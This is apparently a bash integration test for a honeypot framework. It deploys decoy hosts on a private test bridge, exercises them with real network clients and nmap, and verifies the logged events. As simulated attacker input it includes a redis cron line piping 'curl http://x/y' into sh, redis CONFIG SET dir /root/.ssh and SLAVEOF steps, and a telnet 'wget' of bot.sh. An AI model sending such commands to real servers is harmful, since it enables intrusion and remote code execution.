#!/usr/bin/env bash
# deckies_clients.sh: two deckies on a test bridge, served by `decnet serve`; every decoy is driven by the
# real client (curl, lftp, swaks, redis-cli, mariadb, telnet) and identified by nmap -sV, the persona-wide
# checks run (nmap -O family, TTL per persona, no honeypot match, vendor MAC), and the expected events
# appear with non-empty fields in the JSON lines and the store. Only addresses inside our own bridge and
# namespaces are ever contacted.
source "$(dirname "$0")/lib.sh"
make_bridge
export DECNET_DB_PATH=$WORK/store.db
DK="--netns-prefix ${PFX}-"
WEB=$NET.10 EMB=$NET.11
cat >"$WORK/fleet.ini" <<EOF
[general]
net = $NET.0/24
interface = $BR

[web]
ip = $WEB
distro = debian
services = telnet,http,https,ftp,smtp,redis,mysql

[cam]
ip = $EMB
distro = alpine
nmap_os = embedded
services = http,mqtt

[cam.mqtt]
persona = water_plant
EOF
"$DECNET" deploy $DK --config "$WORK/fleet.ini" >"$WORK/deploy.out"
cat "$WORK/deploy.out"
grep -q "web .*running" "$WORK/deploy.out"
[ "$(ip netns list | grep -c "^${PFX}-")" = 2 ]
start_serve 2

echo "-- real clients"
curl -fsS "http://$WEB/" >"$WORK/index.html"; grep -q "Welcome to nginx!" "$WORK/index.html"
[ "$(curl -s -o /dev/null -w '%{http_code}' "http://$WEB/nope")" = 404 ]
[ "$(curl -s -o /dev/null -w '%{http_code}' -u admin:admin "http://$WEB/admin")" = 401 ]
curl -s -d 'username=bob&password=hunter2' "http://$WEB/login" >"$WORK/login.html"; grep -q "Invalid username or password" "$WORK/login.html"
curl -fsSk "https://$WEB/" >"$WORK/index-tls.html"; grep -q "Welcome to nginx!" "$WORK/index-tls.html"
timeout 10 openssl s_client -connect "$WEB:443" -servername www.acme.local </dev/null >"$WORK/s_client.out" 2>&1 || true
grep -q "Verify return code: 18 (self-signed certificate)" "$WORK/s_client.out" || { cat "$WORK/s_client.out"; exit 1; }
grep -q "subject=CN = srv-" "$WORK/s_client.out"
head -c 5000 /dev/urandom >"$WORK/upload.bin"
timeout 30 lftp -u anonymous,x@y -e "set ftp:passive-mode on; set net:max-retries 1; cd upload; put $WORK/upload.bin -o payload.bin; ls; bye" "$WEB" >"$WORK/lftp.out"
grep -q payload.bin "$WORK/lftp.out"
if timeout 20 curl -s --user admin:wrong "ftp://$WEB/" >/dev/null; then echo "ftp accepted a wrong password"; exit 1; fi
# (outputs go to files first: grep -q closing a pipe early would fail the pipeline under pipefail)
swaks --server "$WEB" --to a@example.com --from b@example.org >"$WORK/swaks1.out" 2>&1 || true
grep -q "554 5.7.1 <a@example.com>: Relay access denied" "$WORK/swaks1.out"
swaks --server "$WEB" --to a@example.com --from b@example.org --auth LOGIN --auth-user admin --auth-password 'x y' >"$WORK/swaks2.out" 2>&1 || true
grep -q "535 5.7.8 Error: authentication failed" "$WORK/swaks2.out"
redis-cli -h "$WEB" INFO server >"$WORK/info.txt"; grep -q "redis_version:7.0.15" "$WORK/info.txt"
[ "$(redis-cli -h "$WEB" CONFIG SET dir /root/.ssh)" = OK ]
[ "$(redis-cli -h "$WEB" CONFIG GET dir | tail -1)" = /root/.ssh ]      # a later connection sees it
[ "$(redis-cli -h "$WEB" SLAVEOF "$NET.1" 6379)" = OK ]
redis-cli -h "$WEB" SET backdoor "* * * * * curl http://x/y | sh" >/dev/null
out=$(timeout 10 mariadb -h "$WEB" -u root -ptoor -e 'select 1' 2>&1 || true)
echo "$out" | grep -q "ERROR 1045 (28000): Access denied for user 'root'@'$NET.1' (using password: YES)" || { echo "mariadb: $out"; exit 1; }
(sleep 1; echo root; sleep 0.5; echo wrongpw; sleep 4; echo root; sleep 0.5; echo admin; sleep 1; echo 'uname -a'; sleep 0.5;
 echo 'wget http://203.0.113.9/bot.sh'; sleep 2; echo exit; sleep 0.5) | timeout 25 telnet "$WEB" >"$WORK/telnet.out" 2>&1 || true
grep -q "login: " "$WORK/telnet.out"
grep -q "Login incorrect" "$WORK/telnet.out"
grep -q "Linux .* 6.1.0-21-amd64 .*Debian" "$WORK/telnet.out"

timeout 10 mosquitto_sub -h "$EMB" -t '$SYS/#' -C 5 -v >"$WORK/mqtt_sys.txt"
grep -q '^\$SYS/broker/version mosquitto version 2.0.18$' "$WORK/mqtt_sys.txt" || { cat "$WORK/mqtt_sys.txt"; exit 1; }
timeout 10 mosquitto_sub -h "$EMB" -t 'plant/#' -C 2 -v -V mqttv5 | grep -q '^plant/'
mosquitto_pub -h "$EMB" -t plant/valve3/set -m close -u admin -P 'x' -q 1

echo "-- nmap -sV (each persona's product and version)"
nmap -sV -Pn -p 21,23,25,80,443,3306,6379 "$WEB" >"$WORK/nmap_sv.txt"
for want in "443/tcp +open +ssl/http +nginx 1.22.1" "21/tcp +open +ftp +vsftpd 3.0.3" "23/tcp +open +telnet +Linux telnetd" "25/tcp +open +smtp +Postfix smtpd" \
            "80/tcp +open +http +nginx 1.22.1" "3306/tcp +open +mysql +MySQL 8.0.36" "6379/tcp +open +redis +Redis key-value store 7.0.15"; do
  grep -Eq "$want" "$WORK/nmap_sv.txt" || { echo "nmap -sV: missing /$want/"; cat "$WORK/nmap_sv.txt"; exit 1; }
done
grep -q "MAC Address: .*(\(Dell\|Hewlett Packard\|Intel Corporate\|Super Micro Computer\|VMware\|Raspberry Pi Foundation\))" "$WORK/nmap_sv.txt"
nmap -sV --version-all -Pn -p 21,23,25,80,443,587,1883,3306,6379 "$WEB" "$EMB" >"$WORK/nmap_all.txt"
if grep -qi honeypot "$WORK/nmap_all.txt"; then echo "nmap names a honeypot:"; grep -i honeypot "$WORK/nmap_all.txt"; exit 1; fi
grep -q "Service Info: .*Linux" "$WORK/nmap_all.txt"
if grep -q "Windows" "$WORK/nmap_all.txt"; then echo "mixed OS families"; exit 1; fi

echo "-- persona-wide: OS family and TTL"
nmap -O --osscan-guess -Pn -p 21,22 "$WEB" >"$WORK/nmap_os.txt"
grep -Eq "^(Running|Aggressive OS guesses|OS details):.*Linux" "$WORK/nmap_os.txt" || { cat "$WORK/nmap_os.txt"; exit 1; }
ping -c 1 -W 2 "$WEB" >"$WORK/ping1.txt"; grep -q "ttl=64" "$WORK/ping1.txt"
ping -c 1 -W 2 "$EMB" >"$WORK/ping2.txt"; grep -q "ttl=255" "$WORK/ping2.txt"

echo "-- port scan detection"
nmap -sS -Pn -p 1-40 "$EMB" >/dev/null
wait_for "$WORK/decoys.log" "scan.portscan.detected"

sleep 1   # the sinks flush every 0.2 s; the store writer every 0.25 s
python3 - "$WORK" "$WEB" <<'PY'
import json, sys, os, sqlite3, hashlib
work, web = sys.argv[1], sys.argv[2]
events = [json.loads(l) for l in open(f"{work}/decoys.log.json")]
by = {}
for e in events: by.setdefault(e["event_type"], []).append(e)
def need(eid, **want):
    cands = by.get(eid, [])
    for e in cands:
        f = e["fields"]
        if all((f.get(k) == v) if v is not None else bool(f.get(k)) for k, v in want.items()):
            return e
    sys.exit(f"missing {eid} with {want}; have {[c['fields'] for c in cands][:3]}")
env = lambda e: all(e["fields"].get(k) for k in ("src_ip", "src_port", "dst_ip", "dst_port", "session_id", "transport"))
for eid in ["http.session.connect", "http.request", "ftp.session.connect", "ftp.command", "ftp.session.closed", "smtp.ehlo", "smtp.mail_from",
            "redis.command", "mysql.session.connect", "telnet.option", "telnet.login.failed"]:
    e = need(eid)
    assert env(e), f"{eid}: envelope incomplete: {e['fields']}"
need("http.login.attempt", mechanism="basic", username="admin", secret_printable="admin", auth_result="failed")
need("http.login.attempt", mechanism="form", username="bob", secret_printable="hunter2")
need("https.tls.handshake", sni="www.acme.local", tls_version=None, cipher=None, ja3=None, ja4=None)
need("https.request", path="/", status="200")
need("ftp.login.success", username="anonymous", secret_b64=None)
need("ftp.login.failed", username="admin", secret_printable="wrong")
up = need("ftp.file_upload", name="/upload/payload.bin", sha256=None, stored_as=None)
data = open(f"{work}/upload.bin", "rb").read()
assert up["fields"]["sha256"] == hashlib.sha256(data).hexdigest(), "upload hash"
assert open(up["fields"]["stored_as"], "rb").read() == data, "stored artifact differs"
need("smtp.rcpt_to", address="a@example.com", accepted="false", code="554")
need("smtp.auth.attempt", mechanism="LOGIN", username="admin", secret_printable="x y")
need("redis.replication_target", host=web.rsplit(".", 1)[0] + ".1", port="6379")
need("redis.payload", key="backdoor", sha256=None)
need("mysql.login.failed", username="root", secret_kind="caching_sha2_password", scramble=None, client_name=None)
need("telnet.login.success", username="root", secret_printable="admin")
need("telnet.command.input", input="uname -a", cwd="/root")
need("telnet.session.file_download", url="http://203.0.113.9/bot.sh")
tty = need("telnet.tty.closed", ttylog=None, size=None)
cast = [json.loads(l) for l in open(tty["fields"]["ttylog"])]
assert cast[0]["version"] == 2 and any("uname -a" in c[2] for c in cast[1:] if c[1] == "o"), "asciicast without the session"
need("http.request", path="/", ja4h=None)
need("scan.portscan.detected", kind="syn", ports_count=None)
need("mqtt.subscribe", topics="$SYS/#")
need("mqtt.connect", username="admin", secret_printable="x", protocol_level="4")
need("mqtt.publish", topic="plant/valve3/set", preview="close", qos="1")
assert all(e["decky"] in ("web", "cam") for e in events), "every event names its decky"
db = sqlite3.connect(f"{work}/store.db")
rows = db.execute("SELECT count(*) FROM logs WHERE service NOT IN ('sniffer', 'mutator')").fetchone()[0]
assert rows == len(events), f"store has {rows} rows, JSON has {len(events)}"
creds = {(r[0], r[1]) for r in db.execute("SELECT service, principal FROM credentials")}
for c in [("ftp", "admin"), ("http", "bob"), ("smtp", "admin"), ("mysql", "root"), ("telnet", "root"), ("mqtt", "admin")]:
    assert c in creds, f"credential {c} not in the store: {creds}"
assert db.execute("SELECT count(*) FROM bounty WHERE bounty_type='credential'").fetchone()[0] >= 5
assert db.execute("SELECT count(*) FROM artifacts WHERE sha256=?", (up["fields"]["sha256"],)).fetchone()[0] == 1
print(f"events ok: {len(events)} events, {len(by)} ids, {len(creds)} credentials, artifact stored")
PY

echo "-- teardown leaves nothing"
kill "${PIDS[-1]}"; wait "${PIDS[-1]}" 2>/dev/null || true
"$DECNET" teardown $DK --all
[ "$(ip netns list | grep -c "^${PFX}-" || true)" = 0 ]
if grep -q "decnet:${PFX}-" /sys/class/net/*/ifalias 2>/dev/null; then echo "host links left behind"; exit 1; fi
echo "deckies_clients: ok"
